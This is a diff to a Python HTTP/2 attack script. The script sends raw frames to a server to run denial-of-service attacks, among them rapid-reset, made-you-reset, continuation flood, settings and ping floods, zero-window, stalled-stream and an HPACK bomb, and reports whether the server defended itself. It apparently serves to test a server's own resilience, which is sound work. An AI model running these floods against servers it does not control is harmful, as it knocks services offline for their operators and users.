@@ -3,16 +3,24 @@
 libraries of python3-h2). Each attack runs until the server ends the connection or a budget
 of frames or seconds is spent, then prints one JSON line:
 
-  {"attack": ..., "outcome": "goaway" | "closed" | "survived", "error_code": N or null,
-   "debug": "...", "frames_sent": N, "seconds": S, "responses": N, "resets_received": N}
+  {"attack": ..., "client_port": N, "outcome": "goaway" | "closed" | "survived",
+   "error_code": N or null, "debug": "...", "frames_sent": N, "seconds": S, "responses": N,
+   "resets_received": N, "reset_streams": [stream ids]}
 
 "goaway": the server sent GOAWAY (error_code is its code) and closed or is closing;
 "closed": the connection ended without a GOAWAY; "survived": the budget was spent and the
-connection is still open, i.e. the server did not defend itself.
+connection is still open, i.e. the server did not defend itself. client_port is the attack
+connection's own port, by which the server's log names it.
+
+Every attack starts the connection as a real client does (the server's SETTINGS are read and
+acknowledged). P is the path requested: the settings and ping floods, zero-window and
+stalled-stream want a large response, made-you-reset and empty-data-flood one that takes a request body.
 
 usage: attack.py HOST PORT ATTACK [--seconds S] [--frames N] [--path P]
 attacks: rapid-reset, made-you-reset, continuation-flood, settings-flood, ping-flood,
-         empty-data-flood, priority-flood, zero-window, hpack-bomb
+         empty-data-flood, priority-flood, zero-window, hpack-bomb; and stalled-stream, where
+         only one of two streams is held back (the server should reset it, not end the
+         connection)
 """
 import argparse
 import json
@@ -29,25 +37,32 @@ from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, 
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CANCEL = 0x8
+DEFAULT_WINDOW = 65535
+MAX_WINDOW = 2 ** 31 - 1
 FRAME_HEADER = 9
 
 
 class Connection:
     """A client connection that writes raw frames and (optionally) reads the server's."""
 
-    def __init__(self, host, port, settings=None, receive_buffer=None):
+    def __init__(self, host, port, budget, settings=None, receive_buffer=None):
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         if receive_buffer:
             self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.sock.connect((host, port))
+        self.port = self.sock.getsockname()[1]
         self.encoder = hpack.Encoder()
         self.authority = "%s:%d" % (host, port)
         self.goaway = None
         self.closed = False
         self.responses = 0
         self.resets = 0
+        self.reset_streams = []
+        self.budget = budget
         self.frames_sent = 0
+        self.frames_received = 0
+        self.settings_received = False
         self.lock = threading.Lock()
         self.buffer = b""
         initial = SettingsFrame(0)
@@ -56,13 +71,11 @@ class Connection:
         self.sock.sendall(PREFACE + initial.serialize())
 
     def send(self, *frames):
+        """Sends the frames that fit in the budget of frames."""
+        frames = frames[:max(0, self.budget - self.frames_sent)]
         data = b"".join(f.serialize() for f in frames)
         self.sock.sendall(data)
         self.frames_sent += len(frames)
-
-    def send_raw(self, data, frames=1):
-        self.sock.sendall(data)
-        self.frames_sent += frames
 
     def request_headers(self, stream_id, method="GET", path="/", end_stream=True, extra=()):
         block = self.encoder.encode([(":method", method), (":scheme", "http"), (":path", path),
@@ -107,7 +120,9 @@ class Connection:
         return True
 
     def handle(self, frame):
+        self.frames_received += 1
         if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
+            self.settings_received = True
             ack = SettingsFrame(0)
             ack.flags.add("ACK")
             try:
@@ -119,8 +134,21 @@ class Connection:
             self.goaway = (frame.error_code, frame.additional_data.decode("utf-8", "replace"))
         elif isinstance(frame, RstStreamFrame):
             self.resets += 1
+            self.reset_streams.append(frame.stream_id)
         elif isinstance(frame, (HeadersFrame, DataFrame)) and "END_STREAM" in frame.flags:
             self.responses += 1
+
+    def settle(self, quiet=0.2, limit=3.0):
+        """Starts the connection as a real client does before it sends requests: reads and
+        acknowledges the server's SETTINGS, and what follows them until the server is quiet."""
+        deadline = time.monotonic() + limit
+        while not self.closed and time.monotonic() < deadline:
+            received = self.frames_received
+            if not self.read_once(quiet):
+                break
+            if self.settings_received and self.frames_received == received:
+                break
+        self.sock.settimeout(None)
 
     def drain(self, seconds):
         """Reads for up to this long, or until the connection ends."""
@@ -133,11 +161,12 @@ class Connection:
         return self.closed or self.goaway is not None
 
 
-def run(attack, conn, budget_frames, budget_seconds, path):
+def run(attack, conn, budget_seconds, path):
+    conn.settle()
     start = time.monotonic()
 
     def spent():
-        return conn.frames_sent >= budget_frames or time.monotonic() - start > budget_seconds
+        return conn.frames_sent >= conn.budget or time.monotonic() - start > budget_seconds
 
     try:
         if attack == "rapid-reset":
@@ -152,15 +181,26 @@ def run(attack, conn, budget_frames, budget_seconds, path):
                 with conn.lock:
                     conn.send(*batch)
         elif attack == "made-you-reset":
-            # Each stream is opened, then made invalid so that the server itself must reset it:
-            # a WINDOW_UPDATE of 0 on an open stream is a stream error (RFC 9113 6.9).
+            # Each stream is opened, then made invalid so that the server itself must reset it,
+            # in turn: a WINDOW_UPDATE of 0 on an open stream (RFC 9113 6.9), more DATA than the
+            # request's content-length (8.1.1), an upper-case field name (8.2.1).
             conn.start_reader()
             stream = 1
             while not conn.ended() and not spent():
                 batch = []
-                for _ in range(50):
-                    batch.append(conn.request_headers(stream, method="POST", path=path, end_stream=False))
-                    batch.append(WindowUpdateFrame(stream, 0))
+                for i in range(48):
+                    kind = i % 3
+                    if kind == 0:
+                        batch.append(conn.request_headers(stream, method="POST", path=path, end_stream=False))
+                        batch.append(WindowUpdateFrame(stream, 0))
+                    elif kind == 1:
+                        batch.append(conn.request_headers(stream, method="POST", path=path, end_stream=False,
+                                                          extra=[("content-length", "1")]))
+                        batch.append(DataFrame(stream, b"too long", flags=["END_STREAM"]))
+                    else:
+                        block = conn.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
+                                                     (":authority", conn.authority), ("X-Upper", "1")])
+                        batch.append(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
                     stream += 2
                 with conn.lock:
                     conn.send(*batch)
@@ -180,7 +220,13 @@ def run(attack, conn, budget_frames, budget_seconds, path):
                 with conn.lock:
                     conn.send(*batch)
         elif attack in ("settings-flood", "ping-flood"):
-            # The client does not read: every frame asks for an answer that queues up.
+            # The client does not read: every frame asks for an answer that queues up. Large
+            # responses, with the windows opened wide, first fill the way to the client (the
+            # server's socket buffer), so that the answers queue up in the server at once.
+            conn.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW}),
+                      WindowUpdateFrame(0, MAX_WINDOW - DEFAULT_WINDOW),
+                      *[conn.request_headers(stream, path=path) for stream in range(1, 128, 2)])
+            time.sleep(1)
             while not spent():
                 if attack == "settings-flood":
                     frames = [SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
@@ -208,13 +254,23 @@ def run(attack, conn, budget_frames, budget_seconds, path):
                 with conn.lock:
                     conn.send(*batch)
         elif attack == "zero-window":
-            # Windows of 0: the server can send no DATA and must not hold the stream forever.
+            # Stream windows of 0 (SETTINGS at the start): the server can send no DATA, and must
+            # not hold the streams, and the responses waiting in them, forever.
             conn.start_reader()
             with conn.lock:
-                conn.send(conn.request_headers(1, path=path))
+                conn.send(*[conn.request_headers(stream, path=path) for stream in range(1, 20, 2)])
             while not conn.ended() and not spent():
                 time.sleep(0.05)
-            conn.frames_sent = max(conn.frames_sent, 1)
+        elif attack == "stalled-stream":
+            # Stream windows of 0, then one stream is left stuck while another's response keeps
+            # moving (2 KiB per 0.1 s): the server must reset the stuck stream only.
+            conn.start_reader()
+            with conn.lock:
+                conn.send(conn.request_headers(1, path=path), conn.request_headers(3, path=path))
+            while not conn.ended() and not spent():
+                with conn.lock:
+                    conn.send(WindowUpdateFrame(3, 2048), WindowUpdateFrame(0, 2048))
+                time.sleep(0.1)
         elif attack == "hpack-bomb":
             # One large header enters the dynamic table; then each request refers to it
             # hundreds of times with one byte each.
@@ -246,6 +302,7 @@ def run(attack, conn, budget_frames, budget_seconds, path):
         outcome = "survived"
     return {
         "attack": attack,
+        "client_port": conn.port,
         "outcome": outcome,
         "error_code": conn.goaway[0] if conn.goaway else None,
         "debug": conn.goaway[1] if conn.goaway else "",
@@ -253,6 +310,7 @@ def run(attack, conn, budget_frames, budget_seconds, path):
         "seconds": round(time.monotonic() - start, 3),
         "responses": conn.responses,
         "resets_received": conn.resets,
+        "reset_streams": conn.reset_streams,
     }
 
 
@@ -267,12 +325,12 @@ def main():
     args = parser.parse_args()
     settings = None
     receive_buffer = None
-    if args.attack == "zero-window":
+    if args.attack in ("zero-window", "stalled-stream"):
         settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
     if args.attack in ("settings-flood", "ping-flood"):
         receive_buffer = 4096
-    conn = Connection(args.host, args.port, settings, receive_buffer)
-    print(json.dumps(run(args.attack, conn, args.frames, args.seconds, args.path)))
+    conn = Connection(args.host, args.port, args.frames, settings, receive_buffer)
+    print(json.dumps(run(args.attack, conn, args.seconds, args.path)))
 
 
 if __name__ == "__main__":
